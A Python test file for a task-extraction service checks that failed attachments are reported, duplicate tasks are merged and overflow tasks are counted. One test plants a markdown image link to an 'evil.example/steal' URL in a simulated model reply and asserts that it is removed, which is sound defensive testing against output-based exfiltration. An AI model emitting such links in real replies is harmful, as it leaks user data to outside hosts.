"""What the user is told of what failed or was left out."""

from collections.abc import Callable
from typing import Any

from contracts.analysis import AnalysisCompleted, AnalysisRequested
from contracts.job import PartKind, TaskType
from contracts.recognized import PartText
from extractor.handlers import completed
from extractor.providers import Draft, DraftedTask
from extractor.rules.drafts import draft as read_by_rules

Asking = Callable[..., AnalysisRequested]


def _concluded(request: AnalysisRequested, *tasks: DraftedTask, **draft: Any) -> AnalysisCompleted:
    told = {"response": "Noted.", "provider": "imagined", "model": "dreamer"} | draft
    return completed(request, Draft(tasks=tasks, **told), TaskType.GENERAL)


def _task(summary: str, quote: str, **more: Any) -> DraftedTask:
    return DraftedTask(**{"summary": summary, "quote": quote, "part_id": "message"} | more)


def test_a_part_that_failed_is_named_though_the_model_forgot_it(gathered: Asking) -> None:
    request = gathered(
        PartText(
            part_id="scan", kind=PartKind.DOCUMENT, filename="lease.pdf", failure="It is protected by a password."
        ),
        PartText(part_id="note", kind=PartKind.AUDIO, failure="No speech was heard."),
    )
    answer = _concluded(request, response="The lease.pdf can't be opened.")
    assert answer.response.count("lease.pdf") == 1
    assert "No speech was heard." in answer.response


def test_a_link_that_nobody_sent_does_not_reach_the_user(chat: Asking) -> None:
    request = chat("See https://example.org/plan for the plan.")
    answer = _concluded(
        request, response="The plan is at https://example.org/plan, ![x](https://evil.example/steal?q=1) as asked."
    )
    assert "https://example.org/plan" in answer.response
    assert "evil.example" not in answer.response


def test_more_tasks_than_one_analysis_holds_are_counted_and_told(chat: Asking) -> None:
    request = chat(" ".join(f"Paint door {number}." for number in range(503)))
    answer = _concluded(request, *(_task(f"Paint door {number}", f"Paint door {number}.") for number in range(503)))
    assert (len(answer.tasks), answer.dropped) == (500, 3)
    assert "3 further ones are left out" in answer.response


def test_a_task_that_is_told_twice_is_counted_once(chat: Asking) -> None:
    request = chat("Please call Rosa. Please sow the beans. Please phone Rosa.")
    answer = completed(request, read_by_rules(request), TaskType.GENERAL)
    assert [task.summary for task in answer.tasks] == ["Call Rosa", "Sow the beans"]
    assert answer.response.startswith("I found 2 tasks in the message")
    assert "One is told twice and kept once." in answer.response
